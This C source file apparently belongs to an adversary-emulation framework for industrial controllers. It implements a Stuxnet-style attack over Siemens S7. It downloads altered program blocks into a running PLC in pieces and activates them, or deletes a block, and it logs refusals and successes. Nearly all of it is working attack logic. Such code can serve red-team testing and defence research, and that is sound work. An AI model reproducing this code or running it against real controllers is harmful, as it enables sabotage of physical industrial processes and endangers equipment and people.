/* blocks.c - a controller's program changed over S7, as Stuxnet did: altered blocks downloaded and activated while it runs, or
 * one deleted. What the peer cannot say, its S7 client does. */
#include "adversary/run.h"

#include "proto/s7/s7_client.h"

#include <stdio.h>

static struct mr_s7_client *client_of(struct mr_talk *t)
{
    return t->session; /* the record begins with it */
}

static void blocks_tick(struct mr_run *r)
{
    if (!mr_run_gave_up(r)) {
        (void)mr_talk_begin(&r->talks[0]);
    }
}

static void refused(struct mr_run *r, uint16_t error)
{
    char why[MR_EVENT_DETAIL];
    (void)snprintf(why, sizeof why, "refused with error 0x%04x", error);
    mr_run_end(r, MR_RUN_BLOCKED, why);
}

static void worked(struct mr_run *r, const char *what)
{
    char why[MR_EVENT_DETAIL];
    (void)snprintf(why, sizeof why, "%zu %s %s", r->plan->action.nblocks, r->plan->action.nblocks == 1 ? "block" : "blocks",
                   what);
    mr_run_took_hold(r);
    mr_run_end(r, MR_RUN_WORKED, why);
}

/* The next block, or all that wait become the program. */
static void next_block(struct mr_run *r, struct mr_talk *t)
{
    const struct mr_action *a = &r->plan->action;
    mr_ns now = r->c->env->now;
    bool all = r->st->cursor == a->nblocks;
    const struct mr_program_block *b = &a->blocks[all ? 0 : r->st->cursor];
    t->st->at = 0;
    enum mr_err err = all ? mr_s7_client_insert(client_of(t), b->type, b->number, 0, now)
                          : mr_s7_client_download(client_of(t), b->type, b->number, (uint32_t)b->container.n, b->code, 0, now);
    r->st->tried += err == MR_OK;
    mr_talk_waits(t);
}

static void next_piece(struct mr_run *r, struct mr_talk *t)
{
    const struct mr_slice all = r->plan->action.blocks[r->st->cursor].container;
    size_t left = t->st->at < all.n ? all.n - t->st->at : 0;
    size_t room = mr_s7_client_piece_max(client_of(t));
    size_t n = left < room ? left : room;
    (void)mr_s7_client_give(client_of(t), mr_slice(all.p + t->st->at, n), n < left, r->c->env->now);
    t->st->at += (uint32_t)n;
    mr_talk_waits(t);
}

static void loaded(struct mr_run *r, struct mr_talk *t, const struct mr_s7_result *m)
{
    bool was_last = r->st->cursor == r->plan->action.nblocks;
    if (m->outcome == MR_S7_READY) {
        r->st->cursor = 0; /* what waited is forgotten with the connection */
        next_block(r, t);
    } else if (m->outcome == MR_S7_WANTED && !was_last) {
        next_piece(r, t);
    } else if (m->outcome == MR_S7_REFUSED) {
        refused(r, m->error);
    } else if (m->outcome == MR_S7_DONE && was_last) {
        worked(r, "downloaded and activated");
    } else if (m->outcome == MR_S7_DONE) {
        mr_talk_waits(t); /* the client's own word that it has ended goes first */
        r->st->cursor++;
        next_block(r, t);
    }
}

static void deleted(struct mr_run *r, struct mr_talk *t, const struct mr_s7_result *m)
{
    const struct mr_program_block *b = &r->plan->action.blocks[0];
    if (m->outcome == MR_S7_READY) {
        r->st->tried += mr_s7_client_delete(client_of(t), b->type, b->number, 0, r->c->env->now) == MR_OK;
        mr_talk_waits(t);
    } else if (m->outcome == MR_S7_REFUSED) {
        refused(r, m->error);
    } else if (m->outcome == MR_S7_DONE) {
        worked(r, "deleted");
    }
}

static bool take(struct mr_run *r, struct mr_talk *t,
                 void (*tell)(struct mr_run *, struct mr_talk *, const struct mr_s7_result *))
{
    struct mr_s7_result m;
    while (mr_s7_client_next(client_of(t), &m)) {
        t->st->ready = true;
        t->st->asked = false;
        if (t->st->generation == r->st->generation && r->st->phase == MR_RUN_WORKING) {
            tell(r, t, &m);
        }
    }
    return !mr_s7_client_finished(client_of(t));
}

static bool download_take(struct mr_run *r, struct mr_talk *t)
{
    return take(r, t, loaded);
}

static bool delete_take(struct mr_run *r, struct mr_talk *t)
{
    return take(r, t, deleted);
}

static size_t every_block(const struct mr_action *a)
{
    return a->nblocks;
}

const struct mr_action_ops mr_action_download = {
    .period = 100 * MR_MS, .talks = true, .cursor_end = every_block, .tick = blocks_tick, .take = download_take};
const struct mr_action_ops mr_action_delete = {.period = 100 * MR_MS, .talks = true, .tick = blocks_tick, .take = delete_take};
